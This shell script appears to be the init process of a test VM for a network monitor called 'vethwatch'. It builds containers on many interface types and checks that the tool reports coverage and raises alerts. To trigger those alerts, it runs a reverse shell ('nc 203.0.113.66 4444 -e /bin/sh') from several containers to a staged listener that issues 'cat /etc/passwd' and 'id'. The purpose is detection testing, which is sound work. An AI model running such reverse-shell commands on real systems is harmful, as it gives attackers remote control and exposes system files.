#!/bin/sh
# The first process of the machine that kernel-interfaces.sh starts: plays a node, with a namespace and a process for
# each container. A line that begins with `check` is a result: what, what is right, what was told.
export PATH=/bin
exec 2>/tmp/log
set -u

# busybox runs its own `ip` otherwise, which knows few kinds.
ip() { /sbin/ip "$@"; }

mount_all() {
    mount -t proc proc /proc
    mount -t sysfs sys /sys
    mount -t devtmpfs dev /dev
    mount -t tmpfs run /run
    mkdir -p /run/netns /run/pods
    cgroups=/sys/fs/cgroup
    case $(cat /proc/cmdline) in
    *cgroup=1*)
        mount -t tmpfs cgroups $cgroups
        cgroups=$cgroups/pids
        mkdir $cgroups
        mount -t cgroup -o pids pids $cgroups
        ;;
    *) mount -t cgroup2 cgroups $cgroups ;;
    esac
    for module in /lib/modules/*; do insmod "$module"; done
}

# --- containers: a process in a network namespace and in a cgroup that is named as containerd names it ---

id_of() { printf %s "$1" | sha256sum | cut -c1-64; }
uid_of() { printf %s "$1" | sha256sum | sed 's/^\(.\{8\}\)\(.\{4\}\)\(.\{4\}\)\(.\{4\}\)\(.\{12\}\).*/\1-\2-\3-\4-\5/'; }
cgroup_of() {
    echo "$cgroups/kubepods.slice/kubepods-pod$(uid_of "$1" | tr - _).slice/cri-containerd-$(id_of "$1").scope"
}

# A container, in a namespace of its own or, as `pod NAME host`, in the host's.
pod() {
    mkdir -p "$(cgroup_of "$1")"
    apart='unshare -n'
    if [ "${2-}" = host ]; then apart=; fi
    sh -c "echo 0 >$(cgroup_of "$1")/cgroup.procs; exec $apart sleep 9999" &
    echo $! >"/run/pods/$1"
    sleep 0.3
    if [ -n "$apart" ]; then
        ip netns attach "$1" $!
        ip -n "$1" link set lo up
    fi
}

# Runs a program in a container, in the background.
inside() {
    name=$1
    shift
    sh -c "echo 0 >$(cgroup_of "$name")/cgroup.procs; exec nsenter -n/run/netns/$name $*" </dev/null >/dev/null &
}

# Moves a link into a container and gives it an address: as its way out, or under a name beside that.
give() {
    ip link set "$2" netns "$1"
    ip -n "$1" link set "$2" name "${4:-eth0}"
    ip -n "$1" addr add "$3.2/24" dev "${4:-eth0}"
    ip -n "$1" link set "${4:-eth0}" up
    [ $# -eq 4 ] || ip -n "$1" route add default via "$3.1" dev eth0 onlink
}

# The host's side.
ours() {
    ip addr add "$2.1/24" dev "$1"
    ip link set "$1" up
}

# A container with a cable to the host, of this kind.
cable() {
    name=$1 net=$2
    shift 2
    ip link add "h-$name" type "$@" peer name "c-$name"
    pod "$name"
    ours "h-$name" "$net"
    give "$name" "c-$name" "$net"
}

# An attacker in another namespace on the same interface, where the host is not reached.
outside() {
    ip netns add "$1"
    ip link set "$2" netns "$1"
    ip -n "$1" addr add 203.0.113.66/32 dev "$2"
    ip -n "$1" addr add "$3.1/24" dev "$2"
    ip -n "$1" link set "$2" up
    nsenter "-n/run/netns/$1" nc -ll -p 4444 -e /bin/attacker </dev/null >/dev/null &
}

# --- what is told ---

# The newest record of a file about a container with this in it.
record() { grep "\"event_type\":\"$2\"" "$1" | grep "\"id\":\"$(id_of "$3")\"" | grep "${4-}" | tail -n 1; }
field() { sed -n "s/.*\"$1\":\"\{0,1\}\([^\",}]*\).*/\1/p"; }
# Waits until a file holds a record, for so many seconds.
await() {
    seconds=$1
    shift
    while [ -z "$(record "$@")" ] && [ "$seconds" -gt 0 ]; do
        sleep 1
        seconds=$((seconds - 1))
    done
}
check() { echo "check|$1|$2|$3"; }

state() {
    told=$(record "$1" coverage "$3")
    uid=$(echo "$told" | field pod_uid)
    if [ "$uid" != "$(uid_of "$3")" ]; then uid="pod UID ${uid:-missing}"; else uid=; fi
    check "$2 $3" "$4" "$(echo "$told" | field state)$uid"
}

states() {
    while read -r name right; do state "$1" "$2" "$name" "$right"; done <<LIST
$expected
LIST
}

mount_all
# The loader left its line unfinished.
echo
hostname node
printf '#!/bin/sh\nsleep 1\nfor n in 1 2 3 4 5; do for word in id "cat /etc/passwd" "ls /" "uname -a"; do echo "$word"; sleep 0.5; done; done\n' >/bin/attacker
chmod +x /bin/attacker
ip link set lo up
ip addr add 203.0.113.66/32 dev lo
nc -ll -p 4444 -e /bin/attacker </dev/null >/dev/null &

ours eth0 10.9.0
echo 3 >/sys/class/net/eth0/device/sriov_numvfs
sleep 1
for dummy in below2 below3; do
    ip link add $dummy type dummy
    ip link set $dummy up
done

pod host host
pod none
cable veth 10.1.0 veth
cable netkit-l3 10.2.0 netkit
cable netkit-l2 10.3.0 netkit mode l2
pod macvlan
ip link add m0 link eth0 type macvlan mode bridge
give macvlan m0 10.4.0
for level in 2 3; do
    for end in a b; do ip link add i$level$end link below$level type ipvlan mode l$level; done
    pod ipvlan-l$level
    give ipvlan-l$level i${level}a 10.5.$level
    outside outside$level i${level}b 10.5.$level
done
pod vlan
ip link add link eth0 name v0 type vlan id 7
give vlan v0 10.7.0
pod vxlan
ip link add x0 type vxlan id 8 remote 10.9.0.9 dstport 4789 dev eth0
give vxlan x0 10.8.0
pod wireguard
ip link add w0 type wireguard
give wireguard w0 10.16.0
pod vf
give vf eth1 10.9.0
cable multus 10.10.0 veth
give multus eth2 10.11.0 net1
cable late-vf 10.12.0 veth
cable late-ipvlan 10.13.0 veth

expected="host host_network
none no_interface
veth seen
netkit-l3 seen
netkit-l2 seen
macvlan macvlan
ipvlan-l2 ipvlan
ipvlan-l3 ipvlan
vlan stacked
vxlan stacked
wireguard stacked
vf physical
multus partial
late-vf seen
late-ipvlan seen"

case $(grep kubepods "/proc/$(cat /run/pods/host)/cgroup") in
0::/*) version=2 ;;
*:pids:/*) version=1 ;;
esac
check "cgroup version" "$(sed 's/.*cgroup=//; s/ .*//' /proc/cmdline)" "$version"

vethwatch coverage --format eve >/tmp/coverage
states /tmp/coverage coverage

vethwatch node --format eve --events alert,coverage --output /tmp/node 2>/tmp/node.log &
node=$!
for name in netkit-l3 netkit-l2 ipvlan-l2 ipvlan-l3 vf; do
    nsenter -n/run/netns/$name vethwatch sidecar --format eve --events alert --output /tmp/sidecar-$name \
        2>/tmp/sidecar-$name.log &
done
sleep 6
states /tmp/node node

for name in veth netkit-l3 netkit-l2 ipvlan-l2 ipvlan-l3 vf; do
    inside $name "nc 203.0.113.66 4444 -e /bin/sh"
done
for name in veth netkit-l3 netkit-l2; do
    await 20 /tmp/node alert $name reverse_shell
    told=$(record /tmp/node alert $name reverse_shell)
    check "node, shell in $name" "critical, pod $(uid_of $name)" \
        "$(echo "$told" | field severity), pod $(echo "$told" | field pod_uid)"
done
for name in netkit-l3 netkit-l2 ipvlan-l2 ipvlan-l3 vf; do
    check "sidecar, shell in $name" critical "$(grep reverse_shell /tmp/sidecar-$name | tail -n 1 | field severity)"
done

give late-vf eth3 10.14.0 net1
ip link add late link below2 type ipvlan mode l2
give late-ipvlan late 10.15.0 net1
for name in late-vf late-ipvlan; do
    await 10 /tmp/node alert $name secondary_interface
    check "node, second way out of $name" blind.secondary_interface \
        "$(record /tmp/node alert $name secondary_interface | field rule)"
done
expected="late-vf partial
late-ipvlan partial"
states /tmp/node node
kill $node
sleep 1
cat /tmp/log /tmp/*.log /tmp/coverage /tmp/node
echo end
poweroff -f
